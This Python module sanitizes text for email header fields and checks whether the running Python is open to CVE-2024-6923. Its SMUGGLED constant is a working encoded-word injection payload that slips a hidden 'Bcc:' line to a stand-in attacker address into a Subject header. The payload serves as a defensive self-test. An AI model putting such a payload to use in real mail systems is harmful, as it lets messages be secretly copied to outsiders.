"""The one place that makes text safe for a header field: `clean_header` (trust.md X1, X9; libraries.md M1, M19)."""

from __future__ import annotations

import email.policy
from email.header import decode_header, make_header
from email.message import EmailMessage

HEADER_LIMIT = 200

# Characters that end a line for some reader of the mail, though only CR and LF do so in RFC 5322: VT, FF, FS, GS, RS,
# NEL, U+2028 and U+2029 all split `str.splitlines`, and EmailMessage refuses a header with them (libraries.md M19).
# They become a space, and so does the empty Braille cell, which is a letter to Unicode and a space to the eye.
_BREAKS = (0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1C, 0x1D, 0x1E, 0x1F, 0x85, 0x2028, 0x2029, 0x2800)

# What a reader cannot see but a program or the eye can be fooled with: the rest of C0 and C1, soft hyphen, bidi marks
# and overrides, zero-width characters, fillers without a form (a title of them alone would be none), interlinear marks,
# tag characters, and lone surrogates (no UTF-8 form: peewee D6). They go.
_HIDDEN = (
    (0x00, 0x1F),
    (0x7F, 0x9F),
    (0xAD, 0xAD),
    (0x34F, 0x34F),
    (0x600, 0x605),
    (0x61C, 0x61C),
    (0x6DD, 0x6DD),
    (0x70F, 0x70F),
    (0x115F, 0x1160),
    (0x17B4, 0x17B5),
    (0x180B, 0x180E),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x206F),
    (0x3164, 0x3164),
    (0xD800, 0xDFFF),
    (0xFEFF, 0xFEFF),
    (0xFFA0, 0xFFA0),
    (0xFFF9, 0xFFFB),
    (0x1D173, 0x1D17A),
    (0xE0000, 0xE007F),
)

_CLEAN: dict[int, str | None] = {code: None for first, last in _HIDDEN for code in range(first, last + 1)}
_CLEAN.update(dict.fromkeys(_BREAKS, " "))


def clean_header(text: str, limit: int = HEADER_LIMIT) -> str:
    """`text` as one line that is safe in any header field, at most `limit` characters; idempotent, never raises.

    Controls, line and paragraph separators, bidi and zero-width characters and lone surrogates are taken out, white
    space is collapsed, and `=?` is broken up, so that nothing typed by a person is ever read as an encoded word (RFC
    2047; CVE-2024-6923 turned one inside another into a real `Bcc:` line, libraries.md M1).
    """
    if not (text.isascii() and text.isprintable()):
        text = text.translate(_CLEAN)
    # Breaking up comes after taking out: `=`, a zero-width space and `?` would otherwise meet to form a new `=?`.
    return " ".join(text.split()).replace("=?", "= ?")[:limit].rstrip()


SMUGGLED = "=?utf-8?q?down_=F0=9F=92=A9_=3D=3FUTF-8=3FQ=3F=3D0A=3F=3DBcc=3A_evil=40attacker=2Eexample?="


def python_is_flawed() -> bool:
    """Whether the `email` package of this Python writes a header line that a subject smuggled in (CVE-2024-6923,
    libraries.md M1). Tried, not looked up: Debian's 3.11.2 is mended, the 3.11.7 of python.org is not."""
    mail = EmailMessage(policy=email.policy.SMTP)
    mail["Subject"] = str(make_header(decode_header(SMUGGLED))).replace("\n", "").replace("\r", "")
    return b"\nBcc:" in bytes(mail)
